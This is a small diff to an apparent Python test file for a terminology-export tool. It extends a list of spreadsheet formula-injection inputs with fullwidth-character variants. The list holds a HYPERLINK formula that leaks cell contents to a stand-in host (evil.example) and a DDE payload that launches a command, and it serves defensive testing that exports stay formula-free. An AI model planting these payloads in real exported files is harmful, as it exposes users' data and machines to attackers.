@@ -26,7 +26,7 @@ from termalign.termbase import open_termbase
 from termalign.web.exports import render_terms
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "\t=1+1", "\r=1+1", "'=already quoted", "'", "''", "-", "- hyphen first", "+/-", "normal term"]
+           "\t=1+1", "\r=1+1", "'=already quoted", "'", "''", "-", "- hyphen first", "+/-", "normal term", "＝SUM(A1)", "＋1"]
 
 
 def _formula_free(cells: list[str]) -> bool:
